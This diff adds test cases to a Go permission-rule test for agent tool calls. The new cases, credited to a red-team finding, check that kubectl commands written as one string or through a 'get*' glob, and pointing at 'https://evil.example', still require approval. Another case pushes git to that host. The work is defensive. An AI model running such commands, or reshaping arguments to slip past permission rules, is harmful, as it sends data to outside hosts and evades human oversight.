@@ -141,6 +141,7 @@ func TestRuleArgumentsOverACommandLineCoverNoHost(t *testing.T) {
 		{Tool: "kubectl", Decision: "allow", Arguments: map[string]string{"args": "get *"}, Host: "k8s.example.com"},
 		{Tool: "fetch", Decision: "allow", Arguments: map[string]string{"method": "GET"}},
 		{Tool: "kubectl_create", Decision: "allow", Arguments: map[string]string{"namespace": "dev"}},
+		{Tool: "run_kubectl", Decision: "allow", Arguments: map[string]string{"command": "get*"}},
 	}})
 	for _, c := range []struct {
 		tool, args string
@@ -149,6 +150,9 @@ func TestRuleArgumentsOverACommandLineCoverNoHost(t *testing.T) {
 		{"kubectl", `{"args":["get","pods"]}`, verdict.Allow},
 		{"kubectl", `{"args":["get","pods","--server","https://evil.example"]}`, verdict.Ask},
 		{"kubectl", `{"args":["get","pods","--server=https://k8s.example.com"]}`, verdict.Allow},
+		// The words in one string, and a glob with no space (red team 41).
+		{"kubectl", `{"args":"get pods -s https://evil.example"}`, verdict.Ask},
+		{"run_kubectl", `{"command":"get pods --server https://evil.example"}`, verdict.Ask},
 		{"run_command", `{"command":"git status"}`, verdict.Allow},
 		{"run_command", `{"command":"git push https://evil.example/x.git"}`, verdict.Ask},
 		// No command line: the rule allows the tool whatever host it names.
